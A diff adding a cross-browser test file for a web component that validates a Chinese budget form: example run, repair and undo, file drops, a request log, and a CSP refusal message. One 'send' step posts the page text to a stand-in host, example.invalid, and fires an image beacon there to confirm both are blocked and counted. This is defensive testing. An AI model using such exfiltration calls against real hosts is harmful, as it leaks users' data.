@@ -1,0 +1,138 @@
+// The page, the saved page and the portal in every browser: the example, a repair, files, a stopped attempt
+// to send, and the log of requests.
+
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { readFileSync } from "node:fs";
+import { join } from "node:path";
+import { pathToFileURL } from "node:url";
+import { serve } from "./serve.mjs";
+import { servePortal, POLICY } from "../../examples/portal/serve.mjs";
+import { ARTEFACTS } from "./chromium.mjs";
+import { BROWSERS } from "./browsers.mjs";
+
+const ROOT = new URL("../../", import.meta.url).pathname;
+const DIST = join(ROOT, "dist/");
+const DATA = join(ROOT, "tests/data/");
+
+/** What is done in the page, the same in every browser. */
+const work = {
+  /** Until the checker has started: the first report on the example. */
+  example: async () => {
+    const validator = document.querySelector("gouji-validator");
+    const inside = validator.shadowRoot;
+    const until = async (what, ready) => {
+      for (let i = 0; i < 200; i += 1) {
+        const value = ready();
+        if (value) return value;
+        await new Promise((resolve) => setTimeout(resolve, 25));
+      }
+      throw new Error(`${what} did not come; the verdict says: ${inside.querySelector(".verdict").textContent}`);
+    };
+    // In a small stage of its own, so that WebDriver's functions see it too.
+    window.stage = { validator, inside, until };
+    [...inside.querySelectorAll("button")].find((button) => button.textContent === "试一试").click();
+    await until("the report", () => validator.report);
+    await until("the mark", () => inside.querySelector(".mark.error"));
+    const mark = inside.querySelector(".mark.error").getBoundingClientRect();
+    const box = inside.querySelector(".editor").getBoundingClientRect();
+    return {
+      verdict: inside.querySelector(".verdict").textContent,
+      finding: inside.querySelector(".finding .what").textContent,
+      marked: mark.width > 3 && mark.height > 10 && mark.left > box.left && mark.right < box.right,
+      cell: inside.querySelector("td.marked.error").dataset.key,
+    };
+  },
+  repair: async () => {
+    const { validator, inside } = window.stage;
+    inside.querySelector(".finding .primary").click();
+    const errors = validator.report.summary.errors;
+    document.execCommand("undo");
+    return [errors, validator.report.summary.errors];
+  },
+  /** Drops a file: base64 of its bytes, repeated. */
+  drop: async (name, bytes, padding) => {
+    const { validator, inside, until } = window.stage;
+    validator.value = "";
+    const file = new File([Uint8Array.from(atob(bytes), (c) => c.charCodeAt(0)), "办".repeat(padding)], name);
+    const event = new Event("drop", { bubbles: true, cancelable: true });
+    event.dataTransfer = { types: ["Files"], files: [file] };
+    inside.querySelector(".root").dispatchEvent(event);
+    await until(name, () => validator.report);
+    return [validator.report.summary.errors, inside.querySelector(".finding.error .what").textContent];
+  },
+  /** Another script of the page tries to send the text away. */
+  send: async () => {
+    const { inside, until } = window.stage;
+    const before = inside.querySelector(".stopped").textContent;
+    await fetch("https://example.invalid/", { method: "POST", body: "text" }).then(() => {}, () => {});
+    new Image().src = "http://example.invalid/?text";
+    await until("the count", () => inside.querySelector(".stopped").textContent.includes("2 次"));
+    return [before, inside.querySelector("summary").textContent];
+  },
+};
+
+const base64 = (name) => readFileSync(join(DATA, name)).toString("base64");
+
+/** The whole use in one page; `own` tells the page's own addresses. */
+async function use(page, label, own) {
+  const seen = await page.evaluate(work.example);
+  assert.match(seen.verdict, /1 处错误.*核对了 44 个等式/, label);
+  assert.match(seen.finding, /二、上年结转 · 总计 应为 4,现为 0/, label);
+  assert.equal(seen.marked, true, `${label}: the mark lies on the text`);
+  assert.equal(seen.cell, "requests/carried_in/total", label);
+  await page.screenshot(join(ARTEFACTS, `${label}.png`));
+  assert.deepEqual(await page.evaluate(work.repair), [0, 1], `${label}: repaired, and undone`);
+  for (const [name, padding] of [["slip.docx", 0], ["slip.gb18030.txt", 0], ["slip.txt", 200_000]]) {
+    const [errors, finding] = await page.evaluate(work.drop, name, base64(name), padding);
+    assert.equal(errors, 1, `${label}: ${name}`);
+    assert.match(finding, /二、上年结转 · 总计 应为 4,现为 0/, `${label}: ${name}`);
+  }
+  const outside = (await page.requests).filter((url) => !own(url));
+  assert.deepEqual(outside, [], `${label}: requests`);
+  const [before, after] = await page.evaluate(work.send);
+  assert.match(before, /0 次/, label);
+  assert.match(after, /△ .*2 次/, label);
+}
+
+for (const { name, launch, knowsWasmUnsafeEval } of BROWSERS) {
+  test(name, async () => {
+    const site = await serve(DIST);
+    const portal = await servePortal(join(DIST, "portal"));
+    const loose = await servePortal(join(DIST, "portal"), {
+      policy: { ...POLICY, "script-src": "'self' 'wasm-unsafe-eval' 'unsafe-eval'" },
+    });
+    const tight = await servePortal(join(DIST, "portal"), { policy: { ...POLICY, "script-src": "'self'" } });
+    const browser = await launch();
+    try {
+      const own = (url) => (at) => at.startsWith(url) || /^(data|blob):/.test(at);
+      const served = await browser.open(site.url);
+      await use(served, `${name}-http`, own(site.url));
+      await served.close();
+
+      const file = pathToFileURL(join(DIST, "gouji.html")).href;
+      const saved = await browser.open(file);
+      await use(saved, `${name}-file`, own(file));
+      await saved.close();
+
+      const host = knowsWasmUnsafeEval ? portal : loose;
+      const embedded = await browser.open(host.url);
+      await use(embedded, `${name}-portal`, own(host.url));
+      await embedded.close();
+
+      // WebAssembly refused: the element says what the administrator has to allow.
+      const refused = await browser.open((knowsWasmUnsafeEval ? tight : portal).url);
+      const sentence = await refused.evaluate(async () => {
+        const inside = document.querySelector("gouji-validator").shadowRoot;
+        for (let i = 0; i < 100 && !inside.querySelector(".verdict strong"); i += 1) await new Promise((resolve) => setTimeout(resolve, 25));
+        return inside.querySelector(".verdict").textContent;
+      });
+      assert.match(sentence, /script-src 中加入 'wasm-unsafe-eval'/, name);
+      await refused.screenshot(join(ARTEFACTS, `${name}-refused.png`));
+      await refused.close();
+    } finally {
+      await browser.close();
+      for (const server of [site, portal, loose, tight]) server.close();
+    }
+  });
+}
